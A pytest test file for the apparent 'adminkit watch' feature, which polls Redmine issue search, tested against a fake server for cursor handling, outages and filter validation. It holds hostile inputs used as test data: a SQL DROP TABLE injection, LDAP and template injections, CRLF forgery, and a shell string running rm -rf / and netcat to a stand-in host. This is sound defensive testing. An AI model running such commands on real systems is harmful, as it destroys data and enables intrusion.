"""`adminkit watch` over Redmine's issue search, against a protocol-level fake of it:
the (updated_on, id) cursor, ties inside one second across pages, a late commit found
by the overlap window, the start of the watch, a Redmine that fails mid-poll, and the
profile's filters. The Redmine backend is the real one (httpx); the lab test
(tests/integration/test_watch_redmine.py) runs the same on the real Redmine.
"""

from __future__ import annotations

from typing import Any

import pytest
from pydantic import ValidationError

from adminkit.automation.feeds import RedmineFeed
from adminkit.automation.settings import WatchConfig
from adminkit.core.errors import ConnectionFailed, UsageError
from adminkit.journal.store import Journal
from adminkit.journal.triggers import Triggers
from adminkit.tickets.redmine import Redmine
from tests.fakes import watchrig
from tests.fakes.watchrig import FlakyRedmine, T, open_watcher, profile, unlock_profile

fake = watchrig.fake  # the fixtures: a fake Redmine of this test's own, watchers on it
make = watchrig.make


def test_ties_in_one_second_across_pages_are_each_taken_once(
        fake: FlakyRedmine, make: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    fence = fake.add_issue("fence", at=T.format(0))
    same = [fake.add_issue(f"tie {n}", at=T.format(1)) for n in range(7)]
    later = [fake.add_issue(f"later {n}", at=T.format(2 + n)) for n in range(4)]
    monkeypatch.setattr("adminkit.automation.feeds.PAGE", 3)  # pages end inside the tie
    w = make(after=str(fence))
    assert w.poll().seen == [str(i) for i in same + later]
    assert w.poll().seen == []  # read again (overlap), nothing taken twice


def test_a_late_commit_inside_the_overlap_is_taken_a_restart_repeats_nothing(
        fake: FlakyRedmine, make: Any) -> None:
    fence = fake.add_issue("fence", at=T.format(0))
    first = fake.add_issue("first", at=T.format(20))
    w = make(after=str(fence))
    assert w.poll().seen == [str(first)]
    late = fake.add_issue("late", at=T.format(15))  # saved before `first`, seen after it
    # stamped before the overlap window (a clock stepped back): found by its id instead
    too_old = fake.add_issue("older than the overlap", at=T.format(5))
    w.close()
    again = make()  # restarted: the cursor is in the journal
    assert again.poll().seen == [str(late), str(too_old)]  # by time (15 s), by id (5 s)
    fake.touch(first, T.format(30))  # a note on it: newer, the same trigger
    assert again.poll().seen == []
    taken = [t.ticket for t in Triggers(again.journal).all()]
    assert taken.count(f"redmine:{too_old}") == 1 and taken.count(f"redmine:{late}") == 1


def test_a_late_commit_below_the_highest_id_is_found_by_the_overlap(
        fake: FlakyRedmine, make: Any) -> None:
    """Ids are given at insert, not at commit: an issue whose transaction commits after
    a newer one's is below the highest id read; the time window still finds it."""
    fence = fake.add_issue("fence", at=T.format(0))
    w = make(after=str(fence))
    slow = fake.add_issue("slow commit", at=T.format(10))
    quick = fake.add_issue("quick commit", at=T.format(11))
    fake.hidden.add(slow)  # not committed yet
    assert w.poll().seen == [str(quick)]
    fake.hidden.discard(slow)
    assert w.poll().seen == [str(slow)]  # read again in the overlap: quick is not new
    assert [t.ticket for t in Triggers(w.journal).all()].count(f"redmine:{quick}") == 1


def test_issues_before_the_start_are_never_taken_even_when_they_change(
        fake: FlakyRedmine, make: Any) -> None:
    old = fake.add_issue("old", at=T.format(0))
    fence = fake.add_issue("fence", at=T.format(1))
    w = make(after=str(fence))
    fake.touch(old, T.format(9))
    new = fake.add_issue("new", at=T.format(10))
    assert w.poll().seen == [str(new)]


def test_after_a_time_or_zero_and_bad_values(fake: FlakyRedmine, make: Any) -> None:
    a = fake.add_issue("a", at=T.format(3))
    b = fake.add_issue("b", at=T.format(7))
    assert make(after=T.format(5)).poll().seen == [str(b)]
    with pytest.raises(UsageError, match="cursor at ticket"):
        make(after="0").poll()
    for bad in ("yesterday", "999999"):
        with pytest.raises(UsageError, match=r"not an issue number|has no issue"):
            RedmineFeed(Redmine(profile(fake, pytest.MonkeyPatch())), "helpdesk",
                        overlap=1).start(bad)
    assert a


def test_a_redmine_down_mid_poll_moves_no_cursor_and_loses_nothing(
        fake: FlakyRedmine, make: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    fence = fake.add_issue("fence", at=T.format(0))
    issues = [fake.add_issue(f"n{n}", at=T.format(1 + n)) for n in range(5)]
    monkeypatch.setattr("adminkit.automation.feeds.PAGE", 2)
    w = make(after=str(fence))
    fake.fail_search_at = fake.searches + 2 + 1  # the start's search, page 1, then page 2
    with pytest.raises(ConnectionFailed):
        w.poll()
    assert Triggers(w.journal).all() == []
    assert w.poll().seen == [str(i) for i in issues]


def test_max_per_poll_takes_a_backlog_in_turns(fake: FlakyRedmine, make: Any) -> None:
    fence = fake.add_issue("fence", at=T.format(0))
    issues = [str(fake.add_issue(f"n{n}", at=T.format(1 + n))) for n in range(5)]
    w = make(after=str(fence), max_per_poll=2)
    got = [w.poll().seen for _ in range(4)]
    assert got == [issues[:2], issues[2:4], issues[4:], []]


def test_a_bad_answer_stops_the_poll_and_moves_nothing(fake: FlakyRedmine,
                                                       make: Any) -> None:
    fence = fake.add_issue("fence", at=T.format(0))
    bad = fake.add_issue("bad", at=T.format(1))
    w = make(after=str(fence))
    fake.issues[bad]["updated_on"] = T.format(9) + "'; DROP TABLE issues; --"
    with pytest.raises(ConnectionFailed, match="not a time"):
        w.poll()
    journal = Journal(w.journal.path)
    assert Triggers(journal).all() == []
    journal.close()


def test_the_profiles_filters_go_to_redmine_and_only_known_ones(
        fake: FlakyRedmine, make: Any) -> None:
    fence = fake.add_issue("fence", at=T.format(0))
    fake.add_issue("other", at=T.format(1))
    fake.issues[fake.add_issue("mine", at=T.format(2))]["custom_fields"][0]["value"] = "Lab"
    w = make(after=str(fence), filters={"cf_1": "Lab", "tracker_id": "3"})
    assert [fake.issues[int(i)]["subject"] for i in w.poll().seen] == ["mine"]
    last = fake.seen("GET", "/issues.json")[-1]
    assert last.arg("cf_1") == "Lab" and last.arg("tracker_id") == "3"
    assert last.arg("status_id") == "*" and last.arg("project_id") == "helpdesk"
    for bad in ({"sort": "id"}, {"updated_on": ">=2020-01-01"}, {"project_id": "x"},
                {"cf_1": "a\nb"}, {"cf_1": ""}, {"status_id": "x" * 300}):
        with pytest.raises(ValidationError):
            WatchConfig.model_validate({"filters": bad})


HOSTILE = {"template": "{{ 7 * 7 }}{% raw %}", "ldap": "jnovak)(uid=*))(|(uid=*",
           "shell": "x; rm -rf / $(id) `id` | nc evil 1",
           "control": "jnovak\r\nadminkit:R-1:0; forged",
           "nul": "a\x00b", "huge": "A" * 1_000_000}


def test_hostile_issue_fields_are_data_or_refused_with_a_short_clean_note(
        fake: FlakyRedmine, env: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    p = unlock_profile(fake, monkeypatch, ["redmine:7"], ["*"])
    fence = fake.add_issue("fence", at=T.format(0))
    ids = {}
    for n, (name, value) in enumerate(HOSTILE.items()):
        ids[name] = fake.add_issue(f"unlock {name}", at=T.format(1 + n))
        fake.issues[ids[name]]["custom_fields"][0]["value"] = value
    w, system = open_watcher(env, p, str(fence))
    try:
        report = w.poll()
        status = {o.key.split(":")[1]: o.status for o in report.outcomes}
        triggers = {t.ticket: t for t in Triggers(w.journal).all()}
    finally:
        w.close()
        system.close()
    for name in ("template", "ldap", "shell"):  # one line: data, waiting for an approver
        assert status[str(ids[name])] == "waiting", (name, status)
        plan = triggers[f"redmine:{ids[name]}"].detail["plan"]
        assert plan["inputs"] == {"login": HOSTILE[name]}  # as written, never rendered
    for name in ("control", "nul", "huge"):
        assert status[str(ids[name])] == "refused", (name, status)
    for issue_id in ids.values():
        for note in fake.notes_of(issue_id):
            assert len(note["notes"]) < 2000 and "\r" not in note["notes"]
            assert "\x00" not in note["notes"] and "\nadminkit:R-1" not in note["notes"]


def test_a_running_watch_outlives_a_redmine_that_is_down(fake: FlakyRedmine,
                                                         make: Any) -> None:
    import threading

    fence = fake.add_issue("fence", at=T.format(0))
    issue = fake.add_issue("n", at=T.format(1))
    w = make(after=str(fence))
    w.interval = 0.01
    fake.fail_search_at = fake.searches + 2  # the start's search passes, the poll's fails
    reports: list[Any] = []
    stop = threading.Event()

    def seen(report: Any) -> None:
        reports.append(report)
        if len(reports) == 2:
            stop.set()

    w.run(stop, on_poll=seen)
    assert reports[0].error and "502" in reports[0].error and reports[0].seen == []
    assert reports[1].error is None and reports[1].seen == [str(issue)]
    fake.fail_search_at = fake.searches + 1
    with pytest.raises(ConnectionFailed):  # --once: the command's error (exit 3)
        w.run(threading.Event(), once=True)


def test_a_cursor_from_before_ids_were_kept_starts_at_the_highest_id(
        fake: FlakyRedmine, monkeypatch: pytest.MonkeyPatch) -> None:
    import json

    fence = fake.add_issue("fence", at=T.format(0))
    taken = fake.add_issue("taken", at=T.format(20))
    new = fake.add_issue("new", at=T.format(21))
    system = Redmine(profile(fake, monkeypatch))
    try:
        feed = RedmineFeed(system, "helpdesk", overlap=10)
        old = json.dumps({"floor": [T.format(0), fence], "at": [T.format(20), taken]})
        seen, cursor = feed.poll(old, 100)
        assert seen == [str(taken), str(new)]  # the overlap reads `taken` again
        assert json.loads(cursor)["top"] == new
        with pytest.raises(UsageError):
            feed.poll(json.dumps({**json.loads(cursor), "top": "x"}), 100)
    finally:
        system.close()
